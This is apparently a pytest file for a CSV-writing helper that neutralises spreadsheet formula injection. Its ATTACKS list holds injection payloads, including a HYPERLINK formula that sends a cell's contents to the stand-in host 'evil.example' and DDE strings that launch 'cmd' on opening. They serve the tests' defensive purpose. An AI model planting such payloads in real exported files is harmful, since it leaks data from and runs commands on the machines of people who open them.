import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from alongside.lib import safecsv

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _written(*rows):
    out = io.StringIO()
    safecsv.writer(out).writerows(rows)
    return out.getvalue(), list(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_quotes_a_cell_a_spreadsheet_would_run(attack):
    text, rows = _written(["ok", attack])
    assert rows == [["ok", "'" + attack]]
    assert text.startswith('"ok","\'')


def test_it_leaves_plain_text_numbers_and_empties_alone():
    _, rows = _written(["Lupe", "O'Brien", 42, -3, -2.5, Decimal("-1.25"), None, True])
    assert rows == [["Lupe", "O'Brien", "42", "-3", "-2.5", "-1.25", "", "True"]]


def test_it_keeps_a_separator_inside_the_cell_even_for_a_semicolon_spreadsheet():
    text, rows = _written(["a;=1+1", 'say "hi", =1'])
    assert text == '"a;=1+1","say ""hi"", =1"\r\n'  # every cell wrapped, quotes doubled
    assert rows == [["a;=1+1", 'say "hi", =1']]


def test_it_quotes_legitimate_text_that_starts_like_a_formula():
    # The documented cost: a phone written as text keeps a visible leading quote.
    assert safecsv.neutralize("+1 212 555 0100") == "'+1 212 555 0100"


def test_it_is_the_only_csv_writer_in_alongside():
    package = Path(safecsv.__file__).resolve().parents[1]
    writers = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "safecsv.py"
        and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == [], "write CSV through alongside.lib.safecsv.writer"
